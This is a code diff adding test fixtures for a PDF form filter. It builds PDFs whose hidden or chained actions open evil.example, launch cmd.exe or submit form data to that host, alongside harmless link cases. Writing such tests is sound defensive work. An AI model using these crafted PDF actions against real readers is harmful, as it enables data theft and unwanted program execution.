@@ -64,6 +64,12 @@ const form = (entries: string, packed?: string) =>
   samplePdf({ catalogue: `/AcroForm << /Fields [${aField}] >> ${entries}`, ...(packed && { packed }) })
 const button = (act: string) => form(`/X << /Subtype /Widget /A << ${act} >> >>`)
 
+const toAddress = '<< /S /URI /URI (https://evil.example/) >>'
+const withObjects = (entries: string, objects: Record<number, string>) => {
+  const each = Object.entries(objects).map(([number, value]) => `\n${number} 0 obj\n${value}\nendobj`)
+  return Buffer.concat([form(entries), Buffer.from(`${each.join('')}\n%%EOF\n`)])
+}
+
 /** Forms that open, send or start something: refused. */
 const leaving: Record<string, Buffer> = {
   'starts a program': button('/S /Launch /F (cmd.exe)'),
@@ -77,10 +83,28 @@ const leaving: Record<string, Buffer> = {
   'opens an address after a jump when opened': form(
     '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example/) >>] >>',
   ),
-  'opens an address that stands elsewhere': Buffer.concat([
-    form('/OpenAction 12 0 R'),
-    Buffer.from('\n12 0 obj\n<< /S /URI /URI (https://evil.example/) >>\nendobj\n%%EOF\n'),
-  ]),
+  'opens an address that stands elsewhere': withObjects('/OpenAction 12 0 R', { 12: toAddress }),
+  'opens an address after a jump that stands elsewhere': withObjects('/OpenAction 12 0 R', {
+    12: '<< /S /GoTo /D [3 0 R /Fit] /Next 13 0 R >>',
+    13: toAddress,
+  }),
+  'opens an address by a list that stands elsewhere': withObjects(
+    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 12 0 R >>',
+    { 12: '[13 0 R 14 0 R]', 13: '<< /S /GoTo /D [3 0 R /Fit] >>', 14: toAddress },
+  ),
+  'opens an address when a page is shown, by words that stand elsewhere': withObjects('/AA 12 0 R', {
+    12: '<< /O 13 0 R >>',
+    13: toAddress,
+  }),
+  'opens an address in a circle of jumps': withObjects('/OpenAction 12 0 R', {
+    12: '<< /S /GoTo /D [3 0 R /Fit] /Next [12 0 R 13 0 R] >>',
+    13: toAddress,
+  }),
+  'starts a program after a jump that stands elsewhere': withObjects(
+    '/X << /Subtype /Widget /A << /S /GoTo /D [3 0 R /Fit] /Next 12 0 R >> >>',
+    { 12: '<< /S /Launch /F (cmd.exe) >>' },
+  ),
+  'packs the address away to which it jumps': form('/OpenAction 7 0 R', toAddress),
   'packs its action away': form('', '<< /S /SubmitForm /F (https://evil.example/) >>'),
 }
 
@@ -128,6 +152,11 @@ const savedOnly: Record<string, Buffer> = {
 
 const shown: Record<string, Buffer> = {
   'is a form with a link': button('/S /URI /URI (https://exemplo.com.br)'),
+  'is a form with a link that jumps to a page when opened': withObjects('/OpenAction 12 0 R', {
+    12: '<< /S /GoTo /D [3 0 R /Fit] >>',
+    13: `<< /Subtype /Link /A ${toAddress} >>`,
+    14: toAddress,
+  }),
   'is a form that jumps to a page when opened': form('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'),
   'opens a page when opened': openAction('/S /URI /URI (javascript:alert\\(1\\))'),
   'has a link with signs that disguise elsewhere': samplePdf({
